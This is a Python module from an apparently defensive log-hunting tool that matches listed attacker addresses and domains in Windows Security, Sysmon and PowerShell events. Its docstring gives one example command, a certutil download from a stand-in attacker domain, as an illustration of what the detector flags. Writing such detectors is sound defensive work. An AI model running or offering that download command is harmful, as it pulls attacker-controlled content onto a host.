"""Listed attacker addresses and domains in the command lines, script blocks, logons, network
connections and DNS queries of events.

The same values the web logs are searched for (`exhunt.analyzers.web_indicators`): a command
line that downloads from a listed domain (`certutil -urlcache -f http://cdn.evil.example/a`), a
script block naming a listed address, a logon from one (4624 by RDP or SMB, a failed 4625, an
explicit-credential 4648), a connection to or from one (Sysmon 3, Windows Filtering Platform
5156, and 5157 when the platform blocked it), a DNS query for a name under a listed domain
(Sysmon 22).

Process starts, script blocks and 4648 are read in full by other detectors anyway. Logons,
connections and queries are the bulk of a server's Security and Sysmon logs and no detector
reads them: an EVTX record of those kinds is decoded only when its JSON text holds one of the
lists' literals (`common.TextCheck`, one multi-literal pass that stops at the first), so a hunt with no
listed address in its logons pays one scan per such record, not a decoding.
"""

from __future__ import annotations

import ipaddress
import re
from collections.abc import Callable
from functools import lru_cache

from exhunt.analyzers.web_indicators import Match, NetworkIndicators, unmapped
from exhunt.artefacts.prefilter import Pattern, Prefilter
from exhunt.events.detect.common import TextCheck, report
from exhunt.events.record import EventRecord
from exhunt.filehunt.indicators import HOST_NAME, Indicator, host_names
from exhunt.hits import Reporter
from exhunt.rules import rules_of

DETECTOR = "event-indicator"

# (source family, event id) -> the fields holding free text, and those holding one address
TEXT_FIELDS: dict[tuple[str, int], tuple[str, ...]] = {
    ("sysmon", 1): ("CommandLine", "ParentCommandLine"),
    ("security", 4688): ("CommandLine",),
    ("powershell", 4104): ("ScriptBlockText",),
    ("sysmon", 22): ("QueryResults",),  # `type:  5 cdn.example;::ffff:192.0.2.7;`: the answers
}
# a field holding one address, or one host name (matched against the domains)
VALUE_FIELDS: dict[tuple[str, int], tuple[str, ...]] = {
    ("security", 4648): ("IpAddress",),
    ("security", 4624): ("IpAddress", "WorkstationName"),
    ("security", 4625): ("IpAddress", "WorkstationName"),
    ("security", 5156): ("SourceAddress", "DestAddress"),
    ("security", 5157): ("SourceAddress", "DestAddress"),  # the same connection, blocked
    ("sysmon", 3): ("SourceIp", "DestinationIp", "SourceHostname", "DestinationHostname"),
    ("sysmon", 22): ("QueryName",),
}
# a field naming a host, and the field holding that host's address in the same event
ADDRESS_OF_NAME = {"DestinationHostname": "DestinationIp", "SourceHostname": "SourceIp", "WorkstationName": "IpAddress"}
# Read by no other detector: an EVTX record of these is decoded only when `TextCheck` says so.
SKIMMED = frozenset(
    {("security", 4624), ("security", 4625), ("security", 5156), ("security", 5157), ("sysmon", 3), ("sysmon", 22)}
)
# keyed as `family` and the event id come (either may be None: no entry then)
_FIELDS: dict[tuple[str | None, int | None], tuple[tuple[str, ...], tuple[str, ...]]] = {
    key: (TEXT_FIELDS.get(key, ()), VALUE_FIELDS.get(key, ())) for key in TEXT_FIELDS.keys() | VALUE_FIELDS.keys()
}
_IPV4 = re.compile(r"(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])")
_MAX_TEXT = 1 << 20  # a script block is at most a few hundred KB; longer text is searched in its first MiB


def matcher(
    values: NetworkIndicators, family: Callable[[EventRecord], str | None]
) -> Callable[[EventRecord, Reporter], None] | None:
    """The search of one event, or None when the lists hold no address or domain."""
    rule_ids = [r.id for r in rules_of(DETECTOR)]
    if not rule_ids or not (values.addresses or values.networks or values.domains):
        return None
    # Most command lines, script blocks and logons name no listed value: one multi-literal pass
    # over the text tells, before any name or address in it is read (a script block may be
    # megabytes; exports decode every logon).
    literals = candidates(values)

    def search(record: EventRecord, result: Reporter) -> None:
        fields = _FIELDS.get((family(record), record.event_id))
        if fields is None:
            return  # the common case: an event of another kind
        found: list[tuple[str, Match]] = []
        held = [(name, record.get(name).strip()) for name in fields[1]]
        if literals.any("\n".join(value for _, value in held).encode("utf-8", "surrogatepass")):
            for name, value in held:
                found += _in_value(values, name, value) if value else []
        for name in fields[0]:
            text = record.get(name)[:_MAX_TEXT]
            if text and literals.any(text.encode("utf-8", "surrogatepass")):
                found += [(name, m) for m in _in_text(values, name, text)]
        reported: set[Indicator] = set()
        for name, match in found:
            ind = match.indicator
            if ind in reported:
                continue  # one finding per entry an event names (a loopback connection names it twice)
            reported.add(ind)
            facts = {
                "indicator": ind.value,
                "seen_in": f"{name}: {match.value}",
                "indicator_type": ind.type,
                "indicator_label": ind.label,
                "indicator_source": ind.source,
                "listed_in": f"{ind.origin}:{ind.line}",
                "text": record.get(name),
            }
            # The remote party: the listed address, or the address beside the listed host name
            # (a connection's SourceIp, the event's first address, may be the server's own).
            if ind.type == "ip":
                address = _address(match.value)
            else:
                address = _address(record.get(ADDRESS_OF_NAME[name])) if name in ADDRESS_OF_NAME else None
            for rule_id in rule_ids:
                report(result, rule_id, record, facts, source=address)

    return search


def text_check(values: NetworkIndicators) -> TextCheck | None:
    """The check of the `SKIMMED` kinds' records, or None when there is nothing to look for
    (then those records are passed by unread, as before any list was given)."""
    if not rules_of(DETECTOR) or not (values.addresses or values.networks or values.domains):
        return None
    return TextCheck(candidates(values))


@lru_cache(maxsize=8)
def candidates(values: NetworkIndicators) -> Prefilter:
    """The literals of the lists' addresses and domains, compiled once per process and lists."""
    return Prefilter(Pattern.literal("listed", t) for t in sorted(values.text_literals))


def _in_value(values: NetworkIndicators, field: str, value: str) -> list[tuple[str, Match]]:
    """The listed entries one field's value (an address, else a host name) is."""
    found = values.match_address(field, value)
    if not found and values.domains and _address(value) is None:
        name = value.lower().rstrip(".")
        found = values.match_domain(field, name) if HOST_NAME.fullmatch(name) else []
    return [(field, m) for m in found]


def _address(text: str) -> str | None:
    """`text` as an address is written in findings (an IPv4-mapped one as IPv4), or None."""
    try:
        address = ipaddress.ip_address(text.split("%", 1)[0])
    except ValueError:
        return None
    return str(unmapped(address))


def _in_text(values: NetworkIndicators, field: str, text: str) -> list[Match]:
    out: list[Match] = []
    if values.addresses or values.networks:
        for m in _IPV4.finditer(text):
            out += values.match_address(field, m.group(0))
    if values.domains:
        for name in host_names(text.lower()):
            out += values.match_domain(field, name)
    return out
